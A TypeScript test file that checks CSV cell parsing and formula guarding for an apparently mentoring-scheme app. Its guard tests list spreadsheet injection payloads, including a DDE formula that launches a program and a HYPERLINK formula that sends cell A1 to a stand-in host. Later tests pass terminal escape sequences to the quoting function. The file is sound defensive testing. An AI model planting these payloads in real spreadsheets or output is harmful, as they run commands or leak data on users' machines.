/** What single cells of a coordinator's file say, and what a spreadsheet makes of them. */

import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readCount, readEmail, readLine, readLines, readYesNo } from '../../../src/mentoring/csv/cell.ts';
import { manyOf, oneOf, writeChoices } from '../../../src/mentoring/csv/choices.ts';
import { readDate } from '../../../src/mentoring/csv/date.ts';
import { guard, unguard } from '../../../src/mentoring/csv/guard.ts';
import { isWrong, quote, sayProblem } from '../../../src/mentoring/csv/problem.ts';

const refused = (read: object | string | number | boolean): boolean => isWrong(read);

describe('a cell that a spreadsheet would calculate', () => {
  test.each([
    '=1+1',
    '+44',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1+1',
    '=HYPERLINK("https://x.example?"&A1)',
    "=cmd|' /C calc'!A0",
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    "'=1+1",
    "''@x",
  ])('%j begins with an apostrophe in an export, and comes back without it', (text) => {
    expect(guard(text)).toBe(`'${text}`);
    expect(unguard(guard(text))).toBe(text);
  });

  test.each(['Mina', "O'Brien", "'s-Hertogenbosch", 'a=b', '1-2', "'", ''])('is not %j', (text) => {
    expect(guard(text)).toBe(text);
    expect(unguard(text)).toBe(text);
  });

  test('is safe whatever it says, and no text is lost by that', () => {
    const risky = fc.array(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", ' ', 'a', '＝'));
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary' }),
          risky.map((all) => all.join('')),
        ),
        (text) => {
          expect(guard(text)).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/);
          expect(unguard(guard(text))).toBe(text);
        },
      ),
    );
  });
});

describe('an address', () => {
  test.each([
    ['mina.hart@x.example', 'mina.hart@x.example'],
    [' Mina.Hart@X.EXAMPLE ', 'mina.hart@x.example'],
    ['mailto:mina@x.example', 'mina@x.example'],
    ['Mina Hart <mina@x.example>', 'mina@x.example'],
    ['"Hart, Mina" <Mina@x.example>', 'mina@x.example'],
    ['\u200Bmina@x.example\uFEFF', 'mina@x.example'],
    ['o\u2019brien@x.example', 'o\u2019brien@x.example'],
    ['jose\u0301@x.example', 'jos\u00e9@x.example'],
    ['=mina@x.example', '=mina@x.example'],
  ])('%j is read as %s', (cell, email) => {
    expect(readEmail(cell)).toBe(email);
  });

  test.each([
    'mina',
    'mina@x',
    'mina@@x.example',
    'a@x.example; b@x.example',
    'a@x.example, b@x.example',
    '@x.example',
    `${'a'.repeat(250)}@x.example`,
  ])('%j is refused', (cell) => {
    expect(refused(readEmail(cell))).toBe(true);
  });
});

describe('a date', () => {
  test.each([
    ['2025-05-03', '2025-05-03'],
    ['03/05/2025', '2025-05-03'],
    ['3/5/2025', '2025-05-03'],
    ['03/05/25', '2025-05-03'],
    ['3.5.2025', '2025-05-03'],
    ['3 May 2025', '2025-05-03'],
    ['3rd May 2025', '2025-05-03'],
    ['03-May-25', '2025-05-03'],
    ['3 September 2025', '2025-09-03'],
    ['2025-05-03 00:00:00', '2025-05-03'],
    ['03/05/2025 00:00', '2025-05-03'],
    ['29/02/2024', '2024-02-29'],
  ])('%j is %s: the day stands before the month', (cell, date) => {
    expect(readDate(cell)).toBe(date);
  });

  test.each([
    '05/13/2025',
    '31/02/2025',
    '29/02/2025',
    '45780',
    'May 2025',
    'soon',
    '2025',
    '0000-00-00',
    '3 Mayhem',
  ])('%j is none', (cell) => {
    expect(refused(readDate(cell))).toBe(true);
  });
});

describe('other cells', () => {
  test('numbers are digits within their bounds', () => {
    expect(readCount('3', 1, 10)).toBe(3);
    expect(readCount('3.0', 1, 10)).toBe(3);
    for (const cell of ['0', '11', '-1', '1.5', 'three', '1e1', ''])
      expect(refused(readCount(cell, 1, 10))).toBe(true);
  });

  test('yes and no are what people write', () => {
    expect(['Yes', 'y', 'TRUE', '1'].map(readYesNo)).toEqual([true, true, true, true]);
    expect(['No', 'N', 'false', '0'].map(readYesNo)).toEqual([false, false, false, false]);
    expect(refused(readYesNo('maybe'))).toBe(true);
  });

  test('a line is one line, lines keep their breaks, and what is too long is refused, not cut', () => {
    expect(readLine('Mina\r\nHart\u0007', 20)).toBe('Mina Hart');
    expect(readLines(' one\r\ntwo\rthree\u001b[2J ', 50)).toBe('one\ntwo\nthree[2J');
    expect(readLine('abc', 3)).toBe('abc');
    expect(readLine('abcd', 3)).toEqual({ wrong: 'it has 4 characters, and 3 are kept. Shorten it.' });
  });
});

describe('choices', () => {
  const areas = [
    { value: 'leadership', label: 'Leadership' },
    { value: 'return', label: 'Returning to work' },
    { value: 'exams', label: 'Exams, and after them' },
  ];
  const read = manyOf(areas, 'an area');

  test.each([
    ['Leadership', ['leadership']],
    ['returning to work; LEADERSHIP', ['leadership', 'return']],
    ['Leadership;;Returning‑to‑work;', ['leadership', 'return']],
    ['Leadership, Returning to work', ['leadership', 'return']],
    ['Exams, and after them', ['exams']],
    ['Exams, and after them; Leadership', ['leadership', 'exams']],
    ['Leadership\r\nExams, and after them', ['leadership', 'exams']],
    ['leadership; Leadership', ['leadership']],
  ])('%j names %j', (cell, values) => {
    expect(read(cell)).toEqual(values);
  });

  test('that nobody knows are named, and what names nothing is no answer', () => {
    expect(read('Leadrship; Returning to work; Golf')).toEqual({
      wrong:
        '"Leadrship", "Golf" is not an area. Write one or more of these, with semicolons between them: Leadership; Returning to work; Exams, and after them.',
    });
    expect(refused(read(';'))).toBe(true);
  });

  test('of one kind are listed where none of them is meant', () => {
    const place = oneOf([
      { value: 'video', label: 'Video call', also: ['online'] },
      { value: 'phone', label: 'Phone call' },
    ]);
    expect(place('Online')).toBe('video');
    expect(place('PHONE')).toBe('phone');
    expect(place('By carrier pigeon')).toEqual({
      wrong: '"By carrier pigeon" is not one of the choices. Write one of: Video call; Phone call.',
    });
  });

  test('come back as they were, even from labels full of separators', () => {
    const label = fc
      .array(fc.constantFrom('A', 'b', ';', ',', ' ', '-', "'"), { minLength: 1, maxLength: 6 })
      .map((all) => all.join('').trim());
    // Two labels of a scheme are never the same; two that only signs tell apart are found by their exact words.
    const labels = fc.uniqueArray(
      label.filter((one) => /[ab]/i.test(one)),
      { minLength: 1, maxLength: 5 },
    );
    fc.assert(
      fc.property(labels, fc.nat(), (all, seed) => {
        const choices = all.map((one, index) => ({ value: `v${index}`, label: one }));
        const chosen = choices.filter((_, index) => ((seed >> index) & 1) === 1).map(({ value }) => value);
        fc.pre(chosen.length > 0);
        expect(manyOf(choices, 'an area')(writeChoices(chosen, choices))).toEqual(chosen);
      }),
    );
  });
});

describe('what is said about a file', () => {
  test('names the row, the column, and what to do', () => {
    expect(sayProblem({ row: 17, column: 'areas', words: 'it is empty.' })).toBe(
      'row 17, column "areas": it is empty.',
    );
    expect(sayProblem({ row: 17, words: 'x' })).toBe('row 17: x');
    expect(sayProblem({ words: 'the file is empty.' })).toBe('the file is empty.');
  });

  test('cannot command a terminal, or fill it', () => {
    expect(quote('a\u001b[31mb\u009b2J\u202e\r\nc')).toBe('"a [31mb 2J c"');
    expect(quote('x'.repeat(500))).toHaveLength(63);
    expect(quote('say "yes"')).toBe('"say ”yes”"');
  });
});
